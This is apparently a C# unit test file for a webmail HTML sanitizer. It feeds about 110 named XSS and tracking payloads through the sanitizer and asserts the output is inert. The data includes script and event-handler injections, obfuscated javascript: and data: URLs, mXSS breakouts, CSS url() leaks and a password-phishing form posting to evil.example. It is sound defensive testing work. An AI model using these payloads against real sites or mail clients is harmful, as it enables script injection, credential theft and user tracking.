using WebMail.Mail.Html;

namespace WebMail.Mail.Tests.Html;

/// <summary>
/// The XSS / tracking corpus: each row is named after the attack it stops. Every output, with
/// remote content blocked and allowed, must pass <see cref="FrameDom.AssertInert"/>: no script
/// element, no event handler, no javascript:/data:/vbscript: URL, no element or attribute that
/// can load or navigate outside the allowed URLs, no overlay positioning. Attack-specific outcomes are asserted in the facts below.
/// </summary>
public sealed class MailHtmlSanitizerAttackTests
{
    private static readonly MailHtmlSanitizer Sanitizer = new();

    public static TheoryData<string, string> Attacks => new()
    {
        { "ScriptTag", "<script>alert(1)</script><p>hello</p>" },
        { "ScriptInHeadOfFullDocument", "<html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>" },
        { "ImgOnerror", "<img src=x onerror=alert(1)>" },
        { "SvgOnload", "<svg onload=alert(1)><circle r=10 /></svg>" },
        { "BodyOnload", "<body onload=alert(1)><p>x</p></body>" },
        { "DetailsOntoggle", "<details open ontoggle=alert(1)><summary>s</summary>x</details>" },
        { "JavascriptHref", "<a href=\"javascript:alert(1)\">x</a>" },
        { "JavascriptHrefTabEntity", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>" },
        { "JavascriptHrefNewlineEntity", "<a href=\"java&#10;script:alert(1)\">x</a>" },
        { "JavascriptHrefMixedCase", "<a href=\"JaVaScRiPt:alert(1)\">x</a>" },
        { "JavascriptHrefLeadingSpaces", "<a href=\"   javascript:alert(1)\">x</a>" },
        { "JavascriptHrefLeadingControlChar", "<a href=\"&#1;javascript:alert(1)\">x</a>" },
        { "JavascriptHrefNumericEntities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>" },
        { "JavascriptHrefColonEntity", "<a href=\"javascript&colon;alert(1)\">x</a>" },
        { "VbscriptHref", "<a href=\"vbscript:msgbox(1)\">x</a>" },
        { "DataTextHtmlLink", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>" },
        { "DataTextHtmlBase64WithSpaces", "<a href=\"data:  text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>" },
        { "DataSvgImageWithSpaceInMediaType", "<img src=\"data: image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "DataSvgLinkMixedCase", "<a href=\"DaTa:Image/SVG+xml,<svg onload=alert(1)>\">x</a>" },
        { "DataImagePng", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">" },
        { "FileUrlImage", "<img src=\"file:///etc/passwd\">" },
        { "SvgAnimateHrefJavascript", "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">click</text></a></svg>" },
        { "SvgSetHrefJavascript", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">click</text></a></svg>" },
        { "SvgFeImageRemoteLoad", "<svg><filter id=\"f\"><feImage href=\"https://evil.example/open.png\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/></svg>" },
        { "SvgUseRemote", "<svg><use href=\"https://evil.example/sprite.svg#x\"/></svg>" },
        { "MathHrefJavascript", "<math href=\"javascript:alert(1)\"><mi>click</mi></math>" },
        { "MathXlinkHrefJavascript", "<math><mi xlink:href=\"javascript:alert(1)\">click</mi></math>" },
        { "MathAnnotationXmlMxss", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>" },
        { "MathMglyphStyleMxss", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">" },
        { "SvgStyleMxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">" },
        { "CommentBreakout", "<!--<img src=\"--><img src=x onerror=alert(1)//\">" },
        { "CdataBreakout", "<![CDATA[><img src=x onerror=alert(1)>]]>" },
        { "ConditionalComment", "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->ok" },
        { "NoscriptMxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>" },
        { "NoembedMxss", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>" },
        { "NoframesMxss", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>" },
        { "XmpMxss", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>" },
        { "StyleTagMxss", "<style><img src=x onerror=alert(1)></style><p title=\"</style><img src=x onerror=alert(1)>\">x</p>" },
        { "StyleStringClosingTag", "<style>p { font-family: \"</style><img src=x onerror=alert(1)>\" }</style>" },
        { "TemplateContent", "<template><img src=x onerror=alert(1)></template>" },
        { "FormActionPhishing", "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>" },
        { "ButtonFormaction", "<form><button formaction=\"javascript:alert(1)\">x</button></form>" },
        { "InputFormaction", "<input type=\"submit\" formaction=\"https://evil.example/\">" },
        { "SelectAndTextarea", "<select><option>a</option></select><textarea>t</textarea>" },
        { "IframeRemote", "<iframe src=\"https://evil.example/\"></iframe>" },
        { "IframeSrcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>" },
        { "ObjectData", "<object data=\"https://evil.example/x.swf\"></object>" },
        { "EmbedSrc", "<embed src=\"https://evil.example/x.swf\">" },
        { "FramesetTakeover", "<frameset><frame src=\"https://evil.example/\"></frameset>" },
        { "MetaRefresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">" },
        { "BaseHref", "<base href=\"https://evil.example/\"><a href=\"page\">x</a><img src=\"pixel.png\">" },
        { "LinkPreconnect", "<link rel=\"preconnect\" href=\"https://evil.example\">" },
        { "LinkDnsPrefetch", "<link rel=\"dns-prefetch\" href=\"//evil.example\">" },
        { "LinkStylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/a.css\">" },
        { "LinkPrefetch", "<link rel=\"prefetch\" href=\"https://evil.example/track\">" },
        { "CssUrlEscapedU72l", "<div style=\"background: u\\72l(https://evil.example/a.png)\">x</div>" },
        { "CssUrlEscaped75rl", "<div style=\"background-image: \\75rl(https://evil.example/a.png)\">x</div>" },
        { "CssUrlCommentInside", "<div style=\"background: url(/**/https://evil.example/a.png)\">x</div>" },
        { "CssUrlEntityQuotes", "<div style=\"background:url(&quot;https://evil.example/a.png&quot;)\">x</div>" },
        { "CssImportUrl", "<style>@import url(https://evil.example/a.css);</style>" },
        { "CssImportString", "<style>@import \"https://evil.example/a.css\";</style>" },
        { "CssImageSetString", "<div style=\"background-image: image-set('https://evil.example/a.png' 1x)\">x</div>" },
        { "CssWebkitImageSetString", "<div style=\"background-image: -webkit-image-set('https://evil.example/a.png' 1x)\">x</div>" },
        { "CssVarFallbackUrl", "<div style=\"background-image: var(--x, url(https://evil.example/a.png))\">x</div>" },
        { "CssVarShorthandFallbackUrl", "<div style=\"background: var(--x, url(https://evil.example/a.png)) no-repeat\">x</div>" },
        { "CssCustomPropertyUrl", "<div style=\"--x: url(https://evil.example/a.png); background-image: var(--x)\">x</div>" },
        { "CssEnvFallbackUrl", "<div style=\"background-image: env(foo, url(https://evil.example/a.png))\">x</div>" },
        { "CssIfFunctionUrl", "<div style=\"background-image: if(media(width > 0): url(https://evil.example/a.png); else: none)\">x</div>" },
        { "CssAttrFunctionUrl", "<div data-u=\"https://evil.example/a.png\" style=\"background-image: attr(data-u type(&lt;url&gt;))\">x</div>" },
        { "CssSrcFunction", "<div style=\"background-image: src('https://evil.example/a.png')\">x</div>" },
        { "CssPropertyInitialValue", "<style>@property --x { syntax: '<image>'; inherits: false; initial-value: url(https://evil.example/a.png) } div { background-image: var(--x) }</style><div>x</div>" },
        { "CssFunctionAtRule", "<style>@function --f() { result: url(https://evil.example/a.png) } div { background-image: --f() }</style><div>x</div>" },
        { "CssFontFaceSrc", "<style>@font-face { font-family: t; src: url(https://evil.example/f.woff) } p { font-family: t }</style><p>x</p>" },
        { "CssNestedRuleUrl", "<style>p { color: red; & span { background: url(https://evil.example/n.png) } }</style><p><span>x</span></p>" },
        { "CssLayerAndContainerUrl", "<style>@layer a { p { background: url(https://evil.example/l.png) } } @container (width > 0) { p { background: url(https://evil.example/c.png) } }</style><p>x</p>" },
        { "CssKeyframesUrl", "<style>@keyframes k { from { background: url(https://evil.example/k.png) } } p { animation: k 1s }</style><p>x</p>" },
        { "CssContentUrl", "<style>p::before { content: url(https://evil.example/c.png) }</style><p>x</p>" },
        { "CssOtherUrlProperties", "<ul style=\"list-style-image: url(https://evil.example/l.png); cursor: url(https://evil.example/c.cur), auto; border-image: url(https://evil.example/b.png) 30; mask-image: url(https://evil.example/m.png); filter: url(https://evil.example/f.svg#x); shape-outside: url(https://evil.example/s.png)\"><li>x</li></ul>" },
        { "CssExpression", "<div style=\"width: expression(alert(1))\">x</div>" },
        { "CssBehavior", "<div style=\"behavior: url(https://evil.example/x.htc)\">x</div>" },
        { "CssMozBinding", "<div style=\"-moz-binding: url(https://evil.example/x.xml#x)\">x</div>" },
        { "CssJavascriptUrl", "<div style=\"background-image: url(javascript:alert(1))\">x</div>" },
        { "CssSameOriginUrl", "<div style=\"background-image: url(/account/logout)\">x</div>" },
        { "BackgroundAttributeRemote", "<table background=\"https://evil.example/bg.png\"><tr><td background=\"https://evil.example/td.png\">x</td></tr></table>" },
        { "BackgroundImageInlineStyle", "<div style=\"background-image: url('https://evil.example/a.png')\">x</div>" },
        { "StyleBlockRemoteUrl", "<style>.x { background: url(https://evil.example/a.png) }</style><div class=\"x\">x</div>" },
        { "PositionFixedOverlay", "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 2147483647\">Session expired, log in again</div>" },
        { "PositionFixedInStyleBlock", "<style>div { position: fixed !important; top: 0 }</style><div>x</div>" },
        { "PositionStickyAndAbsolute", "<div style=\"position: sticky; top: 0\">a</div><div style=\"position:absolute;top:0\">b</div>" },
        { "PopovertargetButton", "<button popovertarget=\"p\">open</button><div popover id=\"p\">fake login</div>" },
        { "CommandforButton", "<button commandfor=\"d\" command=\"show-modal\">open</button><dialog id=\"d\">fake login</dialog>" },
        { "SrcsetRemote", "<img srcset=\"https://evil.example/a.png 1x, https://evil.example/b.png 2x\">" },
        { "PictureSourceSrcset", "<picture><source srcset=\"https://evil.example/a.png\"><img src=\"cid:logo@x\" alt=\"logo\"></picture>" },
        { "SameOriginLogoutImage", "<img src=\"/account/logout\"><img src=\"logout\"><img src=\"./logout\"><img src=\"?logout\">" },
        { "ProtocolRelativeImage", "<img src=\"//evil.example/x.png\">" },
        { "BackslashProtocolRelativeImage", "<img src=\"\\\\evil.example\\x.png\"><img src=\"/\\evil.example/x.png\">" },
        { "LoopbackHostVariants", "<img src=\"http://2130706433/admin\"><img src=\"http://0x7f.1/admin\"><img src=\"http://127.0.0.1./admin\"><img src=\"http://[::1]/admin\"><img src=\"http://localhost/admin\"><img src=\"http://192.168.1.1/\">" },
        { "LinkWithUserinfoPhishing", "<a href=\"https://bank.example@evil.example/\">bank</a>" },
        { "LinkRelativeAndProtocolRelative", "<a href=\"/account/logout\">a</a><a href=\"//evil.example/\">b</a><a href=\"#top\">c</a>" },
        { "AnchorPing", "<a href=\"https://example.com/\" ping=\"https://evil.example/ping\">x</a>" },
        { "VideoPoster", "<video poster=\"https://evil.example/p.png\"></video>" },
        { "AudioSrc", "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>" },
        { "SourceAndTrack", "<video><source src=\"https://evil.example/v.mp4\"><track src=\"https://evil.example/t.vtt\"></video>" },
        { "InputTypeImage", "<input type=\"image\" src=\"https://evil.example/i.png\">" },
        { "ImageMapArea", "<img src=\"cid:logo@x\" usemap=\"#m\"><map name=\"m\"><area href=\"javascript:alert(1)\" shape=\"rect\" coords=\"0,0,9,9\"></map>" },
        { "DomClobberingIdAndName", "<img name=\"getElementById\"><div id=\"location\">x</div><a name=\"cookie\">y</a>" },
        { "DataAttributes", "<div data-bind=\"x\" data-src=\"https://evil.example/a.png\">x</div>" },
        { "TargetTopNavigation", "<a href=\"https://example.com/\" target=\"_top\">x</a>" },
        { "NullBytes", "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)><a href=\"java\0script:alert(1)\">x</a>" },
        { "UnbalancedMarkup", "<table><tr><td><div><p>unclosed <b><i>bold <table><td>nested</div></b></td></span></table></p>" },
        { "MarqueeOnstart", "<marquee onstart=alert(1)>x</marquee>" },
        { "AttributeBacktickAndQuotes", "<img src=`x` onerror=alert(1) alt=\"\"\"><p title='x\" onmouseover=\"alert(1)'>y</p>" },
        { "HtmlInsideAttributeTitle", "<p title=\"</p><script>alert(1)</script>\">x</p>" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Sanitize_Attack_OutputIsInertWithRemoteBlocked(string attack, string html)
    {
        var result = Sanitizer.Sanitize(html, FrameDom.Options(allowRemote: false));

        FrameDom.AssertInert(result.Html, remoteAllowed: false);
        Assert.NotNull(attack);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Sanitize_Attack_OutputIsInertWithRemoteAllowed(string attack, string html)
    {
        var result = Sanitizer.Sanitize(html, FrameDom.Options(allowRemote: true));

        FrameDom.AssertInert(result.Html, remoteAllowed: true);
        Assert.Equal(0, result.BlockedRemoteCount);
        Assert.NotNull(attack);
    }
}
